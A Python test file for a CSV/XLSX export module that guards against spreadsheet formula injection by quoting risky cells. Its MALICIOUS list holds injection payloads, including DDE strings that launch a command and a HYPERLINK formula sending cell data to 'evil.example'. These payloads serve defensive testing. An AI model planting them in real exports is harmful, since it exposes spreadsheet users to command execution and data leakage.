"""The one CSV/XLSX writer: text a spreadsheet would run is written as text."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from zhusan.core.tabular_out import (
    add_sheet,
    csv_bytes,
    csv_writer,
    new_workbook,
    safe_cell,
    workbook_bytes,
    write_csv,
    write_xlsx,
)

#: Cells a spreadsheet would run as formulas, as a probe typed them into names.
MALICIOUS = [
    "+cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", MALICIOUS)
def test_text_starting_like_a_formula_gets_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Aisha", "Жүсіпова", "عائشة", "O'Brien", "#adm1+name", "", None, 12, -3.5, Decimal("-1.25")]
)
def test_ordinary_text_and_numbers_are_left_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_neutralising_twice_changes_nothing_more() -> None:
    assert safe_cell(safe_cell("=1+1")) == "'=1+1"


def test_the_csv_writer_neutralises_every_cell_of_every_row() -> None:
    text = write_csv([["given", "family"], *[[m, m] for m in MALICIOUS]])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["given", "family"]
    assert all(cell.startswith("'") for row in rows[1:] for cell in row)


def test_a_streaming_writer_writes_to_the_file_it_is_given() -> None:
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["=1+1", Decimal("-2.50"), 3])
    assert out.getvalue() == "'=1+1,-2.50,3\r\n"


def test_csv_bytes_carry_a_byte_order_mark_for_spreadsheets() -> None:
    assert csv_bytes([["Жүсіпова"]]).startswith(b"\xef\xbb\xbf")
    assert not csv_bytes([["a"]], bom=False).startswith(b"\xef\xbb\xbf")


def test_the_xlsx_writer_stores_no_formula_cell() -> None:
    book = load_workbook(io.BytesIO(write_xlsx([["name"], *[[m] for m in MALICIOUS]], title="Names")))
    sheet = book["Names"]
    names = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert names[:-1] == ["'" + m for m in MALICIOUS[:-1]]
    assert names[-1] == "'\n=1+1"  # XML stores a carriage return as a line feed
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"


def test_sheets_added_to_a_workbook_are_neutralised_and_titles_cut_to_31_characters() -> None:
    book = new_workbook()
    add_sheet(book, "x" * 40, [["=1+1", 5]])
    loaded = load_workbook(io.BytesIO(workbook_bytes(book)))
    assert loaded.sheetnames == ["x" * 31]
    assert list(loaded.active.iter_rows(values_only=True)) == [("'=1+1", 5)]
